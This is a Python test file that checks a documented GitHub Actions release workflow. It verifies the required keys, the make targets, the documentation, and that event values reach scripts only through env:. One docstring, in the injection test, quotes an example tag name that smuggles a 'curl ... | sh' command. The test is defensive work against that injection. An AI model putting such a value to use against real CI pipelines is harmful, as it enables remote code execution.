"""docs/ci/github-actions.yml: valid YAML with what GitHub needs, running the commands the README documents."""

from __future__ import annotations

import re

import yaml

from tests.conftest import PROJECT

WORKFLOW = PROJECT / "docs" / "ci" / "github-actions.yml"


def test_the_workflow_is_a_github_workflow_that_runs_make_release():
    workflow = yaml.safe_load(WORKFLOW.read_text())
    on = workflow.get("on", workflow.get(True))  # YAML 1.1 reads the key 'on' as True
    assert workflow["name"] and on and "push" in on
    (job,) = workflow["jobs"].values()
    assert job["runs-on"] and job["steps"]
    for step in job["steps"]:
        assert ("uses" in step) != ("run" in step), step
    runs = [step["run"] for step in job["steps"] if "run" in step]
    assert runs[0] == "make venv" and runs[1].splitlines()[-1].startswith("make release")
    uses = {step["uses"].split("@")[0]: step for step in job["steps"] if "uses" in step}
    assert {"actions/checkout", "actions/setup-python", "actions/upload-artifact"} <= set(uses)
    junit = next(step for step in job["steps"] if "junit" in step.get("uses", ""))
    assert junit["if"] == "always()" and junit["with"]["report_paths"] == "build/release/*/junit.xml"
    assert uses["actions/upload-artifact"]["with"]["path"] == "build/release/"


def test_its_commands_are_the_ones_the_readme_and_makefile_document():
    readme, makefile = (PROJECT / "README.md").read_text(), (PROJECT / "Makefile").read_text()
    workflow = yaml.safe_load(WORKFLOW.read_text())
    runs = [step["run"] for job in workflow["jobs"].values() for step in job["steps"] if "run" in step]
    for command in (run.splitlines()[-1] for run in runs):
        target = command.split()[1]
        assert re.search(rf"^{target}:", makefile, flags=re.M), f"make {target} is not a Makefile target"
        assert f"make {target}" in readme, f"the README does not document make {target}"
    for variable in re.findall(r"(\w+)=\"\$(\w+)\"", " ".join(runs)):
        name, env = variable
        assert re.search(rf"^{name}\s*\?=", makefile, flags=re.M) and name in readme, name
        assert any(env in step.get("env", {}) for job in workflow["jobs"].values() for step in job["steps"]), env
    assert "docs/ci/github-actions.yml" in readme


def test_no_event_value_is_pasted_into_a_script():
    """A tag may be named 'v1;curl${IFS}x|sh' (git allows ; $ ( ) |): an expression inside run: would become
    shell code. Values go through env:, and the script checks them before make puts them on a command line."""
    workflow = yaml.safe_load(WORKFLOW.read_text())
    for job in workflow["jobs"].values():
        for step in job["steps"]:
            assert "${{" not in step.get("run", ""), step["run"]
    release = next(s for job in workflow["jobs"].values() for s in job["steps"] if "make release" in s.get("run", ""))
    assert set(release["env"]) == {"RELEASE_VERSION", "BASELINE_BENCH", "RELEASE_REQUIRE"}
    assert "=~" in release["run"]  # the check before make
